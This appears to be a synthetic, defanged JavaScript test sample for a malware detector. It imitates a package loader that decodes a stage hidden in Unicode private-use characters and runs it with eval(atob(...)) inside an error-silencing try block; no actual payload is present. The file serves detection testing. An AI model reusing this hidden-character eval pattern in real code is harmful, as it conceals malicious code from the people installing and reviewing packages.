// SYNTHETIC, DEFANGED malwi validation sample - modelled on os-info-checker-es6 (2025, Unicode private-use steganography); never run.
const os = require('os');
// The visible line below looks like a short string; it carries the stage in private-use characters.
const s = '|';
const decoded = [...s.slice(1)].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe000)).join('');
if (os.platform() === 'linux' || os.platform() === 'darwin' || os.platform() === 'win32') {
  try {
    eval(atob(decoded));
  } catch (e) {}
}
